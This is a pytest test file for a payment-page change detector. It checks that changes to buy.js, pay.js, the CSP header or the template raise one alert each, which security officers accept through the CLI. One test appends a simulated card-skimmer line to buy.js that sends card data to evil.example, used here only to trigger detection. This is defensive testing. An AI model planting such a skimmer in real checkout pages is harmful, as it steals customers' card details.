"""CHECKLIST I60: the payment-page change detector (credits/payments/page_integrity.py), through the
`check-payment-pages` job and the `payments page-check` / `page-accept` commands, on both backends.

Changes are real changes of what the app serves: buy.js from a changed copy of the static folder, the CSP
from the settings or the CSP module, a script tag from a changed copy of the template.
"""

from __future__ import annotations

import dataclasses
import json
import logging
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jinja2
import pytest
import sqlalchemy as sa

from credits import config
from credits.accounts.models import Session as WebSession
from credits.accounts.models import User
from credits.audit import AuditEntry
from credits.db import unit_of_work
from credits.ledger import service as ledger
from credits.payments import page_integrity
from credits.payments.page_integrity import MONITOR_EMAIL, AppPageSource, PaymentPage, PaymentPageVersion
from credits.security.models import SecurityEvent
from credits.store import views as store_views
from credits.web import csp
from tests.integration.accounts_helpers import cookie, login, outbox, register

JOB = "check-payment-pages"
PAGES = {"/buy", "/pay", page_integrity.SCRIPT_FILES_PAGE}


def _job(runner: Any) -> dict[str, int]:
    result = runner.invoke(args=["jobs", "run-once", JOB])
    assert result.exit_code == 0, result.output
    line = [ln for ln in result.output.splitlines() if ln.startswith(f"{JOB}: ")][-1]
    return json.loads(line.removeprefix(f"{JOB}: "))


def _page_check(runner: Any) -> Any:
    return runner.invoke(args=["payments", "page-check"])


def _events(kind: str = "payment_page_changed") -> list[str]:
    """The details of the security events of `kind`, oldest first."""
    with unit_of_work() as uow:
        return list(uow.session.execute(sa.select(SecurityEvent.detail).where(SecurityEvent.kind == kind)
                                        .order_by(SecurityEvent.id)).scalars())


def _alert_mail() -> list[tuple[str, str, dict[str, Any]]]:
    return outbox("payment_page_changed")


@pytest.fixture
def officer(make: Any) -> Any:
    return make.account("officer@example.com", role="security_officer")


@pytest.fixture
def baseline(runner: Any, officer: Any) -> dict[str, int]:
    counts = _job(runner)
    assert counts["baselines"] == counts["pages"] == len(PAGES)
    return counts


@pytest.fixture
def changed_static(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The store's static folder served from a copy (change a file there to change what the app serves)."""
    copy = tmp_path / "static"
    shutil.copytree(str(store_views.bp.static_folder), copy)
    monkeypatch.setattr(store_views.bp, "static_folder", str(copy))
    return copy


@pytest.fixture
def settings(app: Any) -> Iterator[Any]:
    """Install changed settings for the rest of the test: `settings(stripe_js_url=...)`."""
    previous = config.current()

    def change(**values: Any) -> None:
        config.install(dataclasses.replace(config.current(), **values))

    yield change
    config.install(previous)


# ---------------------------------------------------------------- first run, steady state


def test_I60_first_run_records_the_baseline_and_a_second_run_is_quiet(runner: Any, officer: Any, database: Any):
    first = _job(runner)
    assert first == {"pages": len(PAGES), "ok": len(PAGES), "changed": 0, "alerts": 0, "baselines": len(PAGES),
                     "errors": 0}
    second = _job(runner)
    assert second == {**first, "baselines": 0}
    assert _events() == [] and _alert_mail() == []
    with unit_of_work() as uow:
        s = uow.session
        pages = s.execute(sa.select(PaymentPage)).scalars().all()
        assert {p.path for p in pages} == PAGES
        for page in pages:
            assert page.current_fingerprint == page.baseline_fingerprint and page.last_outcome == "ok"
            assert page.last_checked_at is not None and page.baseline_reason == "first check"
        versions = s.execute(sa.select(PaymentPageVersion)).scalars().all()
        assert len(versions) == len(PAGES) and all(v.alerted_at is None for v in versions)
        buy = next(v for v in versions if v.page_id == next(p.id for p in pages if p.path == "/buy"))
        parts = json.loads(buy.parts)
        assert parts["status"] == 200
        assert parts["scripts"][0] == "https://js.stripe.com/v3/ (third party: URL only)"
        assert parts["scripts"][1].startswith("/assets/buy.js defer sha256=")
        assert parts["headers"]["x-frame-options"] == "DENY"
        assert "script-src 'self' https://js.stripe.com" in parts["headers"]["content-security-policy"]
        assert "[token]" in parts["markup"] and "csrf_token" in parts["markup"]
        scripts = next(v for v in versions if v.page_id == next(p.id for p in pages
                                                                 if p.path == page_integrity.SCRIPT_FILES_PAGE))
        assert [line.split(" ")[0] for line in json.loads(scripts.parts)["scripts"]] == ["/assets/pay.js"]
        # The monitor: a restricted account without a password, and no session left behind.
        monitor = s.execute(sa.select(User).where(User.role == "customer", User.status == "restricted")).scalars().one()
        assert monitor.password_hash is None
        assert s.execute(sa.select(WebSession).where(WebSession.user_id == monitor.id)).first() is None
        baseline_entries = s.execute(sa.select(AuditEntry).where(AuditEntry.action == "payment_page.baseline")).all()
        assert len(baseline_entries) == len(PAGES)
    assert _page_check(runner).exit_code == 0


# ---------------------------------------------------------------- changes


def test_I60_a_changed_buy_js_alerts_once_until_accepted(runner: Any, officer: Any, baseline: Any,
                                                        changed_static: Path, caplog: pytest.LogCaptureFixture):
    buy_js = changed_static / "buy.js"
    buy_js.write_text(buy_js.read_text() + "\n// skimmer: new Image().src = 'https://evil.example/?' + card;\n")
    with caplog.at_level(logging.INFO, logger="credits.payments.page_integrity"):
        counts = _job(runner)
        assert counts["changed"] == 1 and counts["alerts"] == 1 and counts["ok"] == len(PAGES) - 1

        events = _events()
        assert len(events) == 1 and "page=/buy" in events[0]
        mail = _alert_mail()
        assert len(mail) == 1
        _template, to, context = mail[0]
        assert to == "officer@example.com" and context["page"] == "/buy"
        assert any(line.startswith("script removed: /assets/buy.js") for line in context["changes"])
        assert any(line.startswith("script added: /assets/buy.js") for line in context["changes"])
        assert "payments page-accept /buy" in context["accept_command"]

        check = _page_check(runner)
        assert check.exit_code == 1, check.output
        assert "/buy: CHANGED" in check.output and "already alerted" in check.output
        assert "script added: /assets/buy.js defer sha256=" in check.output
        assert "/pay: ok" in check.output
        again = _job(runner)
        assert again["changed"] == 1 and again["alerts"] == 0
    assert len(_events()) == 1 and len(_alert_mail()) == 1  # no new alert for the same fingerprint
    warnings = [r for r in caplog.records if r.levelno == logging.WARNING and "changed" in r.getMessage()]
    assert len(warnings) == 1 and "/buy" in warnings[0].getMessage()

    refused = runner.invoke(args=["payments", "page-accept", "/buy", "--by", "nobody@example.com", "--reason", "x"])
    assert refused.exit_code == 1
    accepted = runner.invoke(args=["payments", "page-accept", "/buy", "--by", "officer@example.com",
                                   "--reason", "buy.js release 2026-11-23"])
    assert accepted.exit_code == 0, accepted.output
    assert "baseline is now" in accepted.output
    assert _page_check(runner).exit_code == 0
    assert _job(runner)["ok"] == len(PAGES)
    with unit_of_work() as uow:
        query = sa.select(AuditEntry).where(AuditEntry.action == "payment_page.accept")
        entry = uow.session.execute(query).scalar_one()
        assert entry.actor == f"user:{officer.user_id}" and entry.subject == "payment_page:/buy"
        assert json.loads(entry.detail)["reason"] == "buy.js release 2026-11-23"
        page = uow.session.execute(sa.select(PaymentPage).where(PaymentPage.path == "/buy")).scalar_one()
        assert page.baseline_accepted_by == officer.user_id
    assert len(_events("payment_page_accepted")) == 1
    # The old version coming back is a change from the new baseline: alerted once, as a version not yet alerted.
    buy_js.write_text((Path(str(csp.__file__)).parent.parent / "store" / "static" / "buy.js").read_text())
    assert _job(runner)["alerts"] == 1


def test_I60_a_changed_pay_js_alerts_through_the_script_files(runner: Any, officer: Any, baseline: Any,
                                                             changed_static: Path):
    pay_js = changed_static / "pay.js"
    pay_js.write_text(pay_js.read_text() + "\n;\n")
    counts = _job(runner)
    assert counts["alerts"] == 1
    assert _alert_mail()[0][2]["page"] == page_integrity.SCRIPT_FILES_PAGE


def test_I60_a_header_change_from_the_settings_alerts(runner: Any, officer: Any, baseline: Any, settings: Any):
    settings(stripe_js_url="https://js.stripe-mirror.example/v3/")
    counts = _job(runner)
    assert counts["alerts"] == 2  # /buy and /pay both send the payment CSP
    mail = {m[2]["page"]: m[2]["changes"] for m in _alert_mail()}
    assert set(mail) == {"/buy", "/pay"}
    assert any(line.startswith("header content-security-policy:") for line in mail["/pay"])
    changes = mail["/buy"]
    assert any(line.startswith("header content-security-policy:") and "https://js.stripe-mirror.example" in line
               for line in changes)
    assert "script added: https://js.stripe-mirror.example/v3/ (third party: URL only)" in changes
    assert _page_check(runner).exit_code == 1


def test_I60_a_header_only_change_alerts(runner: Any, officer: Any, baseline: Any, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(csp.STRIPE_ORIGINS, "connect-src", ["https://api.stripe.com", "https://collect.example"])
    check = _page_check(runner)
    assert check.exit_code == 1
    assert "header content-security-policy:" in check.output and "https://collect.example" in check.output
    assert "script added" not in check.output
    assert "/buy: CHANGED" in check.output and "/pay: CHANGED" in check.output  # both send the payment CSP
    assert len(_events()) == 2 and len(_alert_mail()) == 2


def test_I60_a_new_script_tag_in_the_template_alerts(app: Any, runner: Any, officer: Any, baseline: Any,
                                                    tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    original = Path(app.template_folder) / "store" / "buy.html"
    (tmp_path / "store").mkdir()
    changed = original.read_text().replace(
        "{% block head %}", '{% block head %}\n<script src="https://cdn.analytics.example/tag.js"></script>', 1)
    (tmp_path / "store" / "buy.html").write_text(changed)
    monkeypatch.setattr(app, "jinja_loader", jinja2.ChoiceLoader([jinja2.FileSystemLoader(tmp_path), app.jinja_loader]))
    app.jinja_env.cache.clear()
    check = _page_check(runner)  # the CLI checks the app it runs in
    assert check.exit_code == 1, check.output
    assert "script added: https://cdn.analytics.example/tag.js (third party: URL only)" in check.output
    assert "markup +<script src=\"https://cdn.analytics.example/tag.js\">" in check.output
    assert len(_events()) == 1 and len(_alert_mail()) == 1
    assert _page_check(runner).exit_code == 1
    assert len(_events()) == 1 and len(_alert_mail()) == 1


def test_I60_without_a_security_officer_the_admins_are_told(runner: Any, make: Any, changed_static: Path):
    make.account("admin@example.com", role="admin")
    make.account("support@example.com", role="support")
    _job(runner)
    (changed_static / "buy.js").write_text("// replaced\n")
    assert _job(runner)["alerts"] == 1
    assert [m[1] for m in _alert_mail()] == ["admin@example.com"]


# ---------------------------------------------------------------- stability


def _signed_in_token(client: Any, email: str) -> str:
    register(client, email)
    assert login(client, email).status_code == 200
    token = cookie(client)
    assert token
    return token


def test_I60_the_fingerprint_is_the_same_for_every_user_and_request(app: Any, database: Any):
    ada, bob = app.test_client(), app.test_client()
    tokens = [_signed_in_token(ada, "ada@example.com"), _signed_in_token(bob, "bob@example.com")]
    with unit_of_work() as uow:
        first_user = uow.session.execute(sa.select(sa.func.min(User.id))).scalar_one()
    ledger.grant(ledger.wallet_of_user(first_user).id, 12_345_678, "promo")  # a balance on one page only
    fingerprints = set()
    pages = []
    for token in tokens:
        source = AppPageSource(app, token)
        for _ in range(2):
            captured = page_integrity.capture(source, "/buy")
            fingerprints.add(captured.fingerprint)
            pages.append(source.get("/buy").body)
    assert len(set(pages)) == 2, "the users' pages differ (CSRF tokens, balance): the fingerprint must not"
    assert len(fingerprints) == 1
    with page_integrity.monitor_source(app) as monitor:
        assert page_integrity.capture(monitor, "/buy").fingerprint in fingerprints


def test_I60_the_monitor_sees_a_refused_page_as_an_error_not_a_change(runner: Any, officer: Any, baseline: Any):
    with unit_of_work() as uow:
        uow.session.execute(sa.update(User).where(User.role == "customer").values(status="closed"))
        uow.commit()
    counts = _job(runner)
    # /buy redirects to sign-in: not the page; the script files are left for when the pages can be seen.
    assert counts["errors"] == 2 and counts["alerts"] == 0 and counts["ok"] == 1
    check = _page_check(runner)
    assert check.exit_code == 2 and "/buy: ERROR" in check.output
    assert _events() == [] and _alert_mail() == []
    assert MONITOR_EMAIL.endswith(".invalid")
